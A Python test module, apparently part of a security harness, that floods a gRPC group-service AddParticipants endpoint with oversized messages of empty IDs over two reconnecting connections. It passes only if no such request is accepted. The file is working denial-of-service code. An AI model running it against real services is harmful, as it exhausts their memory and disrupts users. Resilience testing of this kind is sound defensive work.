"""Fields of two bytes that take two dozen in memory, and time to look at."""

from __future__ import annotations

import time
from collections import Counter

from http2 import Connection, grpc_message, head
from outcome import Outcome
from service import Target

# One byte less than what the chart's default reads.
LARGE = (12 << 20) - 64
SMALL = (256 << 10) - 64
EMPTY_ID = b"\x22\x00"
ADD = "/wagroups.v1.GroupsService/AddParticipants"


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """Requests that name nobody six million times, one after the other on one connection; beside them, on another one,
    sixteen at a time that are small enough for any limit."""
    block = head(ADD, target.keys["greedy"])
    large = grpc_message(EMPTY_ID * (LARGE // 2))
    small = grpc_message(EMPTY_ID * (SMALL // 2))
    answers: "Counter[str]" = Counter()
    end = time.monotonic() + seconds
    one, other = Connection(target.grpc, source), Connection(target.grpc, source)
    while time.monotonic() < end:
        one = one if not (one.is_closed or one.goaway) else Connection(target.grpc, source)
        other = other if not (other.is_closed or other.goaway) else Connection(target.grpc, source)
        stream = one.begin(block)
        streams = [other.begin(block) for _ in range(16)]
        one.upload_all(stream, large, 10)
        for each in streams:
            other.upload_all(each, small, 5)
        one.receive_until_ended([stream], 10)
        other.receive_until_ended(streams, 10)
        for connection, number in [(one, stream), *((other, each) for each in streams)]:
            answered = connection.streams.pop(number)
            answers[f"status {answered.grpc_status}" if answered.headers else "reset"] += 1
        time.sleep(0.05)
    for connection in (one, other):
        connection.close()
    outcome = Outcome(", ".join(f"{count} × {what}" for what, count in answers.most_common()))
    outcome.demand("status 0" not in answers, "it was taken for a right request")
    return outcome
